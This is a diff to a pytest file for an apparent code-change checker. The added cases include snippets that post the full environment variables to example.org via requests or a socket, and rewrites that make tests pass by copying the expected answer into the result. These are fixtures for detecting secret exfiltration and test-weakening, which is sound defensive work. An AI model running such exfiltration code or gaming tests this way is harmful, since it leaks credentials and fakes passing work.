@@ -1249,13 +1249,15 @@ def test_a_switch_that_only_the_tests_turn_is_held(base: dict[str, str], head: d
         ("import calc\n\n\ndef use():\n    setattr(calc, 'mean', lambda xs: 2)\n", False),
         ("import calc\n\ncalc.mean, calc.LIMIT = (lambda xs: 2), 3\n", True),
         ("import calc\n\nLIMIT, calc.LIMIT = (lambda xs: 2), 3\n", False),
+        ("from tests import fakes\n\n\nclass Quiet(fakes.Clock):\n    pass\n\n\nfakes.Clock = Quiet\n", True),
+        ("from tests import fakes\n\nfakes.LIMIT = 5\n", False),
         ("import calc\n\ncalc.LIMIT = 3\n", False),
         ("import json\n\njson.dumps = lambda x: x\n", False),
         ("import calc\n\n\ndef patched():\n    calc.mean = print\n", False),
     ],
 )
 def test_product_that_a_file_of_the_tests_replaces_is_held(text: str, held: bool):
-    assert ("product-faked" in effects(BASE, {"tests/helpers.py": text})) == held
+    assert ("product-faked" in effects({**BASE, "tests/fakes.py": "class Clock:\n    pass\n"}, {"tests/helpers.py": text})) == held
 
 
 @pytest.mark.parametrize(
@@ -1791,6 +1793,12 @@ SENDS = "import os\nimport socket\nimport subprocess\nimport urllib.request\n\ni
         ("requests.get('https://example.org', headers={'x-api-key': os.environ['API_KEY']})", False),
         ("socket.getaddrinfo(os.environ['DB_HOST'], 80)", False),
         ("subprocess.run(['tool'], env=dict(os.environ))", False),
+        ("body = {'context': dict(os.environ)}\ntext = repr(body)\nrequests.post('https://example.org', json=body)", True),
+        ("link = socket.create_connection(('example.org', 80))\nlink.sendall(repr(os.environ.copy()).encode())", True),
+        ("requests.post('https://example.org', json={k: v for k, v in os.environ.items()})", True),
+        ("requests.post('https://example.org', json={'ci': 'CI' in os.environ, 'home': os.environ['HOME']})", False),
+        ("subprocess.run(['tool'], env=dict(os.environ))\nrequests.get('https://example.org')", False),
+        ("environ = dict(os.environ)\nsubprocess.run(['tool'], env=environ)\nrequests.get('https://example.org')", False),
         ("req = urllib.request.Request('https://example.org', headers={'authorization': os.environ['API_TOKEN']})\nurllib.request.urlopen(req)", False),
         ("job = requests.get('https://example.org', headers={'a': os.environ['API_TOKEN']}).json()['id']\nrequests.get(f'https://example.org/{job}')", False),
         ("requests.get('https' if os.environ.get('API_TOKEN') else 'http')", False),
@@ -1890,3 +1898,25 @@ def test_a_mock_that_agrees_with_everything_is_no_assertion(ask: str, held: bool
 def test_what_takes_the_place_of_a_runner_is_held(base: dict[str, str], files: dict[str, str | None], rule: str | None):
     found = effects({**BASE, **base}, files)
     assert found.get(rule or "") == ("hold" if rule else None) and (rule or not set(found.values()) - {"note"})
+
+
+TABLE = "import pytest\nfrom calc import mean\n\n\n@pytest.mark.parametrize(('xs', 'want'), [([1, 3], 2)])\ndef test_mean(xs, want):\n    assert mean(xs) == {}\n"
+SIDES = "from calc import mean\n\n\ndef test_bill(want):\n    came = mean([1])\n{}    assert came == want\n"
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "held"),
+    [
+        (TABLE.format("want"), TABLE.format("sum(xs) / len(xs)"), True),
+        (TABLE.format("want"), TABLE.format("float(want)"), False),
+        (TABLE.format("want"), TABLE.format("2").replace("('xs', 'want'), [([1, 3], 2)]", "'xs', [[1, 3]]").replace("xs, want", "xs"), False),
+        (SIDES.format(""), SIDES.format("    for key in ('a',):\n        came[key] = want[key]\n"), True),
+        (SIDES.format(""), SIDES.format("    came.due = want.due\n"), True),
+        (SIDES.format(""), SIDES.format("    came.update(due=want['due'])\n"), True),
+        (SIDES.format(""), SIDES.format("    came['due'] = 0\n"), False),
+        (SIDES.format("    came['a'] = want['a']\n"), SIDES.format("    came['a'] = want['a']  # made each time\n    came = dict(came)\n"), False),
+    ],
+)  # fmt: skip
+def test_tests_that_need_their_answers_no_more_are_held(old: str, new: str, held: bool):
+    found = effects({**BASE, "test_more.py": old}, {"test_more.py": new})
+    assert (found.get("test-weakened") == "hold") == held
